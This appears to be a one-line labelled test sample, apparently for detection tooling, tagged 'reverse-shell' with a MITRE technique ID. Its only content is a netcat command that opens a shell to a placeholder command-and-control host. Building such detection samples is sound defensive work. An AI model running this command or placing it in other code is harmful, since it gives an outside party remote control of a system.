# expect: reverse-shell | source: T1059.004
nc -e /bin/sh c2.example.invalid 443
